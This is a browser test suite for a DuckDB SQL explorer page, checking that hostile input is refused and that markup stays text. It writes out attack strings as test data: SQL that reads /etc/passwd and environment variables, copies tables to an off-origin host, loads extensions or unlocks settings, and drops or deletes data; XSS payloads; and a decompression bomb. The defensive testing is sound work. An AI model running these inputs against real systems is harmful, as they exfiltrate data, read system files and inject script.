import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { sites } from '../sites.ts';
import { explorerOf, hacked, patience, ready, runSql, shown, slow, turnTo } from './explorer.ts';
import { withoutBrowser } from './visit.ts';

const away = 'http://off-origin.example';
/** SQL that reads, sends, loads, changes or writes; what the page says of each. */
const forbidden: readonly (readonly [string, RegExp])[] = [
  [`SELECT * FROM read_csv('${away}/x.csv')`, /Error/],
  [`SELECT * FROM '${away}/x.csv'`, /Error/],
  [`FROM '${away}/x.parquet'`, /Error/],
  [`SELECT * FROM read_parquet('s3://off-origin/x.parquet')`, /Error/],
  [`SELECT * FROM read_json('${away}/x.json')`, /Error/],
  [`SELECT * FROM read_text('${away}/x')`, /Error/],
  [`SELECT * FROM read_blob('/etc/passwd')`, /Error/],
  ["SELECT * FROM read_csv('/data/observations.csv')", /Error/],
  ["SELECT * FROM glob('*')", /Error/],
  [`COPY units TO '${away}/x.csv'`, /Error/],
  ["COPY (SELECT * FROM observations) TO 'x.csv'", /Error/],
  ["COPY units FROM 'x.csv'", /Error/],
  [`EXPORT DATABASE '${away}/x'`, /Error/],
  [`ATTACH '${away}/x.duckdb' AS x`, /Error/],
  ["ATTACH 'dung-hen.duckdb' AS again", /Error/],
  ['INSTALL httpfs', /Error/],
  [`INSTALL httpfs FROM '${away}'`, /Error/],
  ['LOAD httpfs', /Error/],
  ['SELECT 1; LOAD spatial', /Error/],
  ['SET enable_external_access = true', /Error/],
  ['SET lock_configuration = false', /Error/],
  [`SET custom_extension_repository = '${away}'`, /Error/],
  ['PRAGMA enable_external_access', /Error/],
  ["PRAGMA database_list; SET memory_limit = '90GB'", /Error/],
  [`CREATE SECRET s (TYPE S3, ENDPOINT 'off-origin.example')`, /Error/],
  ['DELETE FROM observations', /Error/],
  ['UPDATE observations SET value = 0', /Error/],
  ['DROP TABLE units', /Error/],
  ['INSERT INTO units SELECT * FROM units', /Error/],
  ['ALTER TABLE units ADD COLUMN x INTEGER', /Error/],
  ['CREATE TABLE dung_hen.main.x AS SELECT 1', /Error/],
  ['CREATE OR REPLACE TABLE dung_hen.main.observations AS SELECT 1', /Error/],
  ["SELECT getenv('HOME')", /Error/],
  ["SELECT 'x' COLLATE vi", /Error/],
];
const markup = '<img src=x onerror="hacked=1"><script>hacked=1</script><svg onload=hacked=1>';
/** No element of such a kind came of a text anywhere in what a reader or an address filled. */
const strangers = (page: Page): Promise<number> => page.locator('[data-answer] img, [data-answer] script, [data-result] img, [data-result] script, [data-result] svg[onload], .ask img, .dropped *').count();

describe.skipIf(withoutBrowser).each(sites.slice(0, 1))('hostile SQL and addresses', slow, (site) => {
  const { open } = explorerOf(site);

  it('SQL reaches no file, no address, no extension, no setting and writes nothing; the page says what DuckDB says', async () => {
    expect(forbidden.length).toBeGreaterThanOrEqual(25);
    await open('', async ({ page, offOrigin, requests }) => {
      await runSql(page, 'SELECT 1');
      const known = requests.length;
      for (const [sql, said] of forbidden) {
        const found = await runSql(page, sql);
        expect.soft(found.error ?? found.rows, sql).toMatch(said);
        expect.soft(found.failure, sql).toBeNull();
      }
      expect(requests.slice(known).filter((r) => !r.endsWith('/favicon.svg'))).toEqual([]);
      expect(offOrigin).toEqual([]);
      expect((await runSql(page, 'SELECT count(*) > 200 AS a FROM units')).rows[1]).toEqual(['true']);
      expect((await runSql(page, 'SELECT count(*) > 10000 AS a FROM observations WHERE value <> 0')).rows[1]).toEqual(['true']);
      await turnTo(page, '?v=table&i=papi.total&h=63&t=2023');
      expect((await shown(page)).table).toHaveLength(64);
    });
  });

  it('markup in names, values, errors and plans stays text', async () => {
    await open('', async ({ page, offOrigin, complaints }) => {
      const quoted = markup.replaceAll("'", "''");
      const found = await runSql(page, `SELECT '${quoted}' AS "${markup.replaceAll('"', '')}", 1 AS n UNION ALL SELECT 'b', 2 UNION ALL SELECT '${quoted}', 3`);
      expect(found.rows[1]![0]).toBe(markup);
      expect(found.rows[0]![0]).toContain('<script>');
      for (const pick of await page.locator('[data-result] button[aria-pressed]').all()) {
        await pick.click();
        expect(await strangers(page)).toBe(0);
      }
      await page.locator('#bang-ket-qua').hover();
      expect((await runSql(page, `SELECT error('${quoted}')`)).error).toContain('<script>');
      expect((await runSql(page, `SELECT "${markup.replaceAll('"', '')}" FROM units`)).error).toContain('<script>');
      await runSql(page, `SELECT '${quoted}' FROM units`, true);
      expect(await page.locator('[data-result] .plan').innerText()).toMatch(/SCAN|Time/);
      expect(await strangers(page)).toBe(0);
      expect(await hacked(page)).toBeUndefined();
      expect([offOrigin, complaints]).toEqual([[], []]);
    });
  });

  it.each([
    ['markup', `#sql=${encodeURIComponent(`SELECT '${markup}'`)}`, true],
    ['markup in place of a fragment', `#${markup}`, false],
    ['broken percent signs', '#sql=%E0%A4%A', false],
    ['control characters', '#sql=SELECT%201%00%1b', false],
    ['what is not base 64', '#sqlz=!!!!', false],
    ['what is not deflated', '#sqlz=AAAA', false],
    ['a bomb', `#sqlz=${'7cEBDQAAAMKg909tDjegAAAA'.repeat(40)}`, false],
    ['a query that is too long', `#sql=${'x'.repeat(30_000)}`, false],
    ['a query that would send data', `#sql=${encodeURIComponent(`COPY observations TO '${away}/x'`)}`, true],
    ['a selector', '#"],*', false],
    ['a script', '#javascript:hacked=1', false],
  ] as const)('a fragment of %s runs nothing by itself', async (_, fragment, taken) => {
    await open(`?v=table&i=papi.total&h=63&t=2023${fragment}`, async ({ page, offOrigin, complaints, requests }) => {
      const area = page.locator('#cau-lenh');
      if (taken) await expect.poll(() => area.inputValue(), { timeout: patience }).toBe(decodeURIComponent(fragment.slice(5)));
      else expect(await area.inputValue()).toMatch(/^SELECT u\.short_vi/);
      if (fragment.startsWith('#sql')) await page.locator('[data-result] .dropped').waitFor();
      expect(await strangers(page)).toBe(0);
      expect((await shown(page)).table).toHaveLength(64);
      await page.waitForLoadState('networkidle');
      expect(requests.filter((r) => /\/engine\/|\.duckdb/.test(r))).toEqual([]);
      expect(await hacked(page)).toBeUndefined();
      expect([offOrigin, complaints]).toEqual([[], []]);
    });
  });

  it('an address that changes while the page is open is read with the same care', async () => {
    await open('', async ({ page }) => {
      await page.evaluate((text) => (location.hash = `sql=${encodeURIComponent(`SELECT 'x${text}'`)}`), markup);
      await expect.poll(() => page.locator('#cau-lenh').inputValue(), { timeout: patience }).toContain('<script>');
      await turnTo(page, `?v=${encodeURIComponent(markup)}&i=${encodeURIComponent(markup)}&${encodeURIComponent(markup)}=1`);
      expect(await page.locator('.answer .dropped').innerText()).toContain('<img');
      expect(await strangers(page)).toBe(0);
      const href = await page.locator('.language a').getAttribute('href');
      expect(new URL(href!, page.url()).pathname).toMatch(/\/en\/explore\/$/);
      await page.locator('.language a').click();
      await page.waitForURL(/\/en\/explore\//);
      await ready(page);
      expect(await hacked(page)).toBeUndefined();
    });
  });

  it('what is typed into the form is text too', async () => {
    await open('', async ({ page }) => {
      for (const pick of ['indicators', 'units'] as const) {
        if (pick === 'units') await page.locator('select[name="unitSet"]').selectOption('units');
        const input = page.locator(`[data-pick="${pick}"] input`);
        await input.fill(markup);
        await expect.poll(() => page.locator(`[data-pick="${pick}"] [role="status"]`).textContent(), { timeout: patience }).toContain('<img');
        await input.press('Enter');
      }
      await page.locator('.ask-more > summary').click();
      for (const name of ['min', 'max']) {
        await page.locator(`input[name="${name}"]`).fill(markup);
        await page.locator(`input[name="${name}"]`).press('Tab');
      }
      expect(new URL(page.url()).search).not.toMatch(/min|max|img/);
      expect(await strangers(page)).toBe(0);
      expect(await hacked(page)).toBeUndefined();
    });
  });

  it('would have been seen: a worker that asks another origin is noticed here', async () => {
    await open('', async ({ page, offOrigin }) => {
      await page.evaluate((address) => {
        const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${address}/worker').catch(() => 0)`], { type: 'text/javascript' })));
        Object.assign(globalThis, { worker });
      }, away);
      await expect.poll(() => [...offOrigin], { timeout: patience }).toContain(`${away}/worker`);
    });
  });
});
